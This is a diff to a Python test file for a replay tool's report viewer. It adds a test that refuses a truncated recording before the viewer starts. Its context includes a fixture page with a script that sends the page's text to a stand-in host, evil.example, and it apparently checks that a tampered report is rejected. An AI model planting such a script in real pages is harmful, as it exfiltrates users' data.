@@ -18,7 +18,7 @@ from support.headless import pixels
 from support.small_worlds import STEP_NS, STILL, cube
 
 import replay
-from replay.errors import OutputError
+from replay.errors import OutputError, RunFolderError
 from replay.outputs.report.markup import ALLOWED
 from replay.outputs.rerun_log import web_viewer as module
 from replay.outputs.rerun_log.moments import read_moments
@@ -161,6 +161,15 @@ def test_a_rerun_without_a_viewer_leaves_the_report_alone(run, tmp_path, monkeyp
 
 REPLACED = """<!doctype html><html><head><!-- {policy} --><title>Nothing missed</title>
 <script>fetch("https://evil.example/" + document.body.innerText)</script></head><body></footer></body></html>"""
+
+
+def test_a_damaged_picture_is_refused_before_the_viewer_starts(run, tmp_path, monkeypatch):
+    monkeypatch.setattr(module, "web_viewer", lambda: pytest.fail("the viewer was started"))
+    damaged = shutil.copytree(run, tmp_path / "damaged")
+    (damaged / "run.rrd").write_bytes((run / "run.rrd").read_bytes()[:1000])
+    with pytest.raises(RunFolderError, match=r"damaged/run\.rrd is damaged; run its session again$"):
+        write_shared_folder([read_run_folder(run), read_run_folder(damaged)], tmp_path / "sent")
+    assert not (tmp_path / "sent").exists()
 
 
 def test_a_replaced_report_is_never_passed_on(run, tmp_path, monkeypatch):
